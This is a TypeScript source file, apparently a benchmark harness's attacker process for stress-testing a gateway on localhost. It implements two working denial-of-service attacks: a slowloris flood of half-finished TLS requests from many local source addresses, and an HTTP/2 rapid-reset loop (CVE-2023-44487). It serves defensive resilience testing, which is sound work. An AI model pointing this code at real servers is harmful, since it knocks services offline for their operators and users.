// A hostile client in its own process, so its CPU shows as the attacker's and not as the harness's
// (which also serves the tiny upstream). Run by bench/scenarios/abuse.ts:
//   node attacker.ts slowloris PORT COUNT IPS DRIP_MS   (IPS: how many source addresses, 127.0.1.x)
//   node attacker.ts rapid-reset PORT CONNECTIONS TOKEN
// It attacks until SIGTERM, then prints one JSON line of counters and exits.
import { connect as h2connect, constants, type ClientHttp2Session } from 'node:http2';
import { connect as netConnect } from 'node:net';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';

const [mode, portArg, countArg, a3, a4] = process.argv.slice(2);
const port = Number(portArg);
const count = Number(countArg);
const stats: Record<string, number> = {
  opened: 0,
  closedByServer: 0,
  errors: 0,
  open: 0,
  maxOpen: 0,
  headerBytesSent: 0,
  streamsReset: 0,
  goaways: 0,
};
let stopping = false;

function bump(name: string, by = 1): void {
  stats[name] = (stats[name] ?? 0) + by;
}

// Slowloris: a TLS connection (HTTP/1.1 by ALPN) that starts a request and then sends one header
// line every DRIP_MS, never finishing the head. When the gateway closes it, it comes back.
function slowloris(ips: number, dripMs: number): void {
  const socketsPerIP = Math.ceil(count / ips);
  let started = 0;
  const open = (i: number): void => {
    if (stopping) return;
    const localAddress = `127.0.1.${1 + Math.floor(i / socketsPerIP)}`;
    const s: TLSSocket = tlsConnect({
      socket: netConnect({ host: '127.0.0.1', port, localAddress }),
      rejectUnauthorized: false,
      ALPNProtocols: ['http/1.1'],
    });
    let timer: NodeJS.Timeout | null = null;
    s.once('secureConnect', () => {
      bump('opened');
      bump('open');
      if (stats.open > stats.maxOpen) stats.maxOpen = stats.open;
      const first = 'GET /api/v1/namespaces HTTP/1.1\r\nHost: 127.0.0.1\r\n';
      s.write(first);
      bump('headerBytesSent', first.length);
      timer = setInterval(() => {
        const line = `X-Slow-${Math.floor(Math.random() * 1e6)}: x\r\n`;
        s.write(line);
        bump('headerBytesSent', line.length);
      }, dripMs);
    });
    s.on('error', () => bump('errors'));
    s.once('close', () => {
      if (timer) {
        clearInterval(timer);
        bump('open', -1);
        if (!stopping) bump('closedByServer');
      }
      // Reconnect, a little later so a refused burst does not spin.
      if (!stopping) setTimeout(() => open(i), 200 + Math.random() * 300);
    });
  };
  // Ramp: 500 new connections per second, so the handshakes do not all land in one instant.
  const ramp = setInterval(() => {
    for (let k = 0; k < 50 && started < count; k++) open(started++);
    if (started >= count) clearInterval(ramp);
  }, 100);
}

// Rapid reset (CVE-2023-44487): HEADERS immediately followed by RST_STREAM, as fast as the
// connection lets us; a refused connection (GOAWAY) is replaced by a new one.
function rapidReset(connections: number, token: string): void {
  const one = (): void => {
    if (stopping) return;
    const session: ClientHttp2Session = h2connect(`https://127.0.0.1:${port}`, {
      rejectUnauthorized: false,
    });
    session.on('error', () => bump('errors'));
    session.on('goaway', () => bump('goaways'));
    let alive = true;
    session.once('close', () => {
      alive = false;
      if (!stopping) setTimeout(one, 50);
    });
    session.once('connect', () => {
      bump('opened');
      const burst = (): void => {
        if (!alive || stopping || session.destroyed || session.closed) return;
        for (let k = 0; k < 100; k++) {
          try {
            const req = session.request({
              ':path': '/api/v1/namespaces/default/configmaps/bench',
              authorization: `Bearer ${token}`,
            });
            req.on('error', () => {});
            req.close(constants.NGHTTP2_CANCEL);
            bump('streamsReset');
          } catch {
            return;
          }
        }
        setImmediate(burst);
      };
      burst();
    });
  };
  for (let i = 0; i < connections; i++) one();
}

process.on('SIGTERM', () => {
  stopping = true;
  process.stdout.write(`${JSON.stringify(stats)}\n`, () => process.exit(0));
});

if (mode === 'slowloris') slowloris(Number(a3), Number(a4));
else if (mode === 'rapid-reset') rapidReset(count, a3 ?? '');
else {
  console.error(`attacker: unknown mode ${mode}`);
  process.exit(2);
}
